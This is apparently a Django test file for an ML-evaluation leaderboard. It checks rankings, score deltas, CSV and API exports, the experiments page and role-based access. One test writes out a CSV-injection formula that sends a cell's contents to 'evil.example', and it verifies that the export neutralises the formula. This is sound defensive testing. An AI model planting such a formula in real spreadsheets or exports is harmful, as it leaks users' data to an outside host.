"""The leaderboard page, its CSV and API, the policy experiments page and the training and
evaluation pages' access rules, on stored rows (the runs themselves are tested in
tests/training and tests/evaluation)."""

import csv
import io

import pytest
from django.urls import reverse
from rest_framework.test import APIClient

from curation.models import SnapshotPolicy
from evaluation.models import EvaluationRun
from tests.factories import (
    DatasetFactory,
    EvalResultFactory,
    EvaluationRunFactory,
    SnapshotFactory,
    TrainingRunFactory,
)

pytestmark = pytest.mark.django_db

BASE = "sentence-transformers/all-MiniLM-L6-v2"


def evaluate(run_kwargs, scores: dict, mode="full"):
    run = EvaluationRunFactory(mode=mode, tasks=list(scores), **run_kwargs)
    for task, score in scores.items():
        EvalResultFactory(run=run, task=task, main_score=score)
    return run


def fine_tune(snapshot, name, config=None):
    return TrainingRunFactory(
        snapshot=snapshot, name=name, base_model=BASE, config=config or {"lora_r": 8}
    )


def as_fine_tune(training):
    return {
        "training_run": training,
        "model_ref": training.artifact_path,
        "base_model": training.base_model,
        "model_key": f"training:{training.pk}",
        "model_label": training.name,
    }


@pytest.fixture
def board():
    """Base model, three fine-tunes on one dataset differing only in policy, and an older
    base evaluation that the newest one replaces."""
    dataset = DatasetFactory(name="scifact-train")
    snapshots = {
        policy: SnapshotFactory(dataset=dataset, policy=policy)
        for policy in (SnapshotPolicy.DEFAULT, SnapshotPolicy.REMOVE_HN, SnapshotPolicy.RELABEL)
    }
    evaluate({}, {"beir:scifact": 0.10, "beir:nfcorpus": 0.10})  # replaced by the next one
    evaluate({}, {"beir:scifact": 0.6451, "beir:nfcorpus": 0.3000})
    runs = {}
    for policy, (scifact, nfcorpus) in {
        SnapshotPolicy.DEFAULT: (0.6500, 0.3010),
        SnapshotPolicy.REMOVE_HN: (0.6600, 0.3050),
        SnapshotPolicy.RELABEL: (0.6700, 0.2990),
    }.items():
        runs[policy] = fine_tune(snapshots[policy], f"lora-{policy}")
        evaluate(as_fine_tune(runs[policy]), {"beir:scifact": scifact, "beir:nfcorpus": nfcorpus})
    # A streamlined evaluation never mixes into the full board.
    evaluate({}, {"beir:scifact": 0.99}, mode="streamlined")
    return runs


def test_leaderboard_ranks_models_and_shows_delta_to_base(client, viewer, board):
    client.force_login(viewer)
    page = client.get(reverse("evaluation:leaderboard"))
    assert page.status_code == 200
    rows = page.context["board"].rows
    labels = [r.entry.label for r in rows]
    assert labels == ["lora-relabel", "lora-remove_hn", "lora-default", "all-MiniLM-L6-v2"]
    relabel = rows[0]
    assert relabel.rank == 1
    assert relabel.scores == [pytest.approx(0.2990), pytest.approx(0.6700)]  # nfcorpus, scifact
    assert relabel.deltas == [pytest.approx(-0.0010), pytest.approx(0.0249)]
    assert relabel.mean_delta == pytest.approx((0.6700 + 0.2990 - 0.6451 - 0.3000) / 2)
    html = page.content.decode()
    assert "+2.49" in html and "-0.10" in html and "67.00" in html
    # Each fine-tune links to its training run and snapshot with its policy.
    run = board[SnapshotPolicy.RELABEL]
    assert reverse("training:run_detail", args=[run.pk]) in html
    assert reverse("curation:snapshot_detail", args=[run.snapshot_id]) in html
    assert "99.00" not in html  # the streamlined result stays on its own board
    assert "· LoRA adapter (peft)</small>" in html  # the method as the training pages name it


def test_task_filter_and_streamlined_mode(client, viewer, board):
    client.force_login(viewer)
    page = client.get(reverse("evaluation:leaderboard"), {"tasks": "beir:nfcorpus"})
    rows = page.context["board"].rows
    assert page.context["board"].tasks == ["beir:nfcorpus"]
    assert [r.entry.label for r in rows][:2] == ["lora-remove_hn", "lora-default"]
    page = client.get(reverse("evaluation:leaderboard"), {"mode": "streamlined"})
    assert [(r.entry.label, r.scores) for r in page.context["board"].rows] == [
        ("all-MiniLM-L6-v2", [pytest.approx(0.99)])
    ]


def test_csv_export_has_the_same_numbers(client, viewer, board):
    client.force_login(viewer)
    response = client.get(reverse("evaluation:leaderboard_csv"))
    assert response["Content-Type"].startswith("text/csv")
    table = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [row["model"] for row in table][0] == "lora-relabel"
    top = table[0]
    assert top["rank"] == "1" and top["policy"] == "relabel"
    assert float(top["beir:scifact"]) == pytest.approx(0.67)
    assert float(top["delta_beir:scifact"]) == pytest.approx(0.0249)
    assert top["training_run"] == str(board[SnapshotPolicy.RELABEL].pk)


def test_api_leaderboard_matches_the_page(viewer, board):
    api = APIClient()
    api.force_authenticate(viewer)
    data = api.get(reverse("api:leaderboard")).json()
    assert data["tasks"] == ["beir:nfcorpus", "beir:scifact"]
    top = data["rows"][0]
    assert top["label"] == "lora-relabel" and top["rank"] == 1
    assert top["deltas"]["beir:scifact"] == pytest.approx(0.0249)
    assert api.get(reverse("api:leaderboard"), {"mode": "nope"}).status_code == 400


def test_experiments_put_policies_side_by_side(client, viewer, board):
    other = SnapshotFactory(policy=SnapshotPolicy.DEFAULT)  # another dataset: its own group
    lone = fine_tune(other, "lone", config={"lora_r": 16})
    evaluate(as_fine_tune(lone), {"beir:scifact": 0.5, "beir:nfcorpus": 0.2})
    client.force_login(viewer)
    page = client.get(reverse("experiments:experiments"))
    experiments = page.context["experiments"]
    assert len(experiments) == 2
    first = experiments[0]
    assert first.policies == ["default", "relabel", "remove_hn"]
    assert [r.entry.label for r in first.rows] == [
        "all-MiniLM-L6-v2", "lora-default", "lora-relabel", "lora-remove_hn"
    ]  # fmt: skip
    assert experiments[1].policies == ["default"]
    assert "· LoRA adapter (peft) on" in page.content.decode()


def test_annotators_cannot_see_training_or_evaluation(client, annotator, board):
    client.force_login(annotator)
    for url in (
        reverse("evaluation:leaderboard"),
        reverse("experiments:experiments"),
        reverse("training:run_list"),
        reverse("training:run_detail", args=[board["default"].pk]),
    ):
        assert client.get(url).status_code == 403, url


def test_viewers_read_but_cannot_launch(client, viewer, board):
    client.force_login(viewer)
    run = board["default"]
    assert client.get(reverse("training:run_detail", args=[run.pk])).status_code == 200
    assert client.get(reverse("training:new", args=[run.snapshot_id])).status_code == 403
    assert client.post(reverse("training:launch", args=[run.snapshot_id])).status_code == 403
    assert client.get(reverse("evaluation:new")).status_code == 403
    assert client.post(reverse("training:run_cancel", args=[run.pk])).status_code == 403


def test_anonymous_users_are_sent_to_login(client, board):
    response = client.get(reverse("evaluation:leaderboard"))
    assert response.status_code == 302 and "login" in response["Location"]


def test_csv_export_neutralises_a_formula_in_a_run_name(client, viewer, board):
    """A run named like a spreadsheet formula lands in the CSV as text, not a live formula
    (every CSV goes through core.csv_export); numbers, negative ones too, stay numbers."""
    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
    # The label a row shows is the evaluated model's, named by a user (a run, a model id).
    EvaluationRun.objects.filter(training_run=board[SnapshotPolicy.RELABEL]).update(
        model_label=hostile
    )
    client.force_login(viewer)
    response = client.get(reverse("evaluation:leaderboard_csv"))
    table = list(csv.DictReader(io.StringIO(response.content.decode())))
    labels = [row["model"] for row in table]
    assert "'" + hostile in labels and hostile not in labels
    for row in table:  # every score and delta still reads as a number
        for column in ("beir:scifact", "delta_beir:scifact"):
            assert row[column] == "" or float(row[column]) == float(row[column])


def test_held_out_queries_and_policies_read_in_words(client, viewer, board):
    """The tour found a relabel snapshot of "34 queries" beside the others' 36, the two
    missing queries held out for evaluation (said only on the snapshot page), and policy
    names with no meaning given: the counts say what was held out, the experiments page
    warns that such snapshots differ by more than the policy, and a policy's meaning is on
    hover."""
    from curation.models import Snapshot

    relabel = board[SnapshotPolicy.RELABEL].snapshot
    Snapshot.objects.filter(pk=relabel.pk).update(manifest={
        "counts": {"queries_out": 34, "positives": 49, "negatives": 235},
        "held_out": {"queries": 2, "fraction": 0.05, "seed": 0},
    })  # fmt: skip
    client.force_login(viewer)
    html = client.get(reverse("evaluation:leaderboard")).content.decode()
    assert "34 queries (+2 held out for evaluation) · 49 positives" in html
    assert 'title="relabel: move false negatives to the positives">relabel</span>' in html
    page = client.get(reverse("experiments:experiments")).content.decode()
    assert "hold out different shares of their queries for evaluation (0%, 5%)" in page
    assert "<em>relabel</em> (false negatives made positives)" in page
